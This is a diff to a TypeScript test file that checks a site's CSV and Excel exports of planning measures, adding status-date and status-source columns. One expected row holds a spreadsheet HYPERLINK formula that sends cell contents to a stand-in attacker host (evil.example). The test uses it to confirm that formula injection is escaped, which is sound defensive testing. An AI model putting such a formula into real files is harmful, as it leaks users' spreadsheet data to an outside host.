@@ -42,7 +42,7 @@ describe('tiltak.csv', () => {
     const working = site.editions.find((edition) => edition.id === 'utkast')!;
     const rows = measuresCsv(working).split('\r\n');
     const row = (id: string) => rows.find((line) => line.startsWith(`${id},`));
-    const rest = ',planlagt,2025,2027,barnehage,KD,,M-1,,,false,nb';
+    const rest = ',planlagt,,versjon:utkast,2025,2027,barnehage,KD,,M-1,,,false,nb';
     expect(row('T-20')).toBe(`T-20,"'=HYPERLINK(""https://evil.example/?q=""&A1,""klikk"")"${rest}`);
     expect(row('T-21')).toBe(`T-21,'+1${rest}`);
     expect(row('T-22')).toBe(`T-22,'-1${rest}`);
@@ -59,8 +59,10 @@ describe('tiltak-excel.csv', () => {
     const excel = measuresCsv(working, 'excel');
     expect(excel.charCodeAt(0)).toBe(0xfeff);
     const [header, ...rows] = excel.slice(1).split('\r\n');
-    expect(header).toBe('id;title;status;start;deadline;sectors;responsible;partners;goals;actionPlan;inputs;example;lang');
-    expect(rows.find((line) => line.startsWith('T-26;'))).toBe('T-26;Vanlig tittel - med = og +;planlagt;2025;2027;barnehage;KD;;M-1;;;false;nb');
+    expect(header).toBe('id;title;status;statusAsOf;statusSource;start;deadline;sectors;responsible;partners;goals;actionPlan;inputs;example;lang');
+    expect(rows.find((line) => line.startsWith('T-26;'))).toBe(
+      'T-26;Vanlig tittel - med = og +;planlagt;;versjon:utkast;2025;2027;barnehage;KD;;M-1;;;false;nb',
+    );
     // The plain file has no mark, and both hold the same measures.
     expect(measuresCsv(working).charCodeAt(0)).not.toBe(0xfeff);
     expect(rows.filter(Boolean).length).toBe(measuresCsv(working).split('\r\n').filter(Boolean).length - 1);
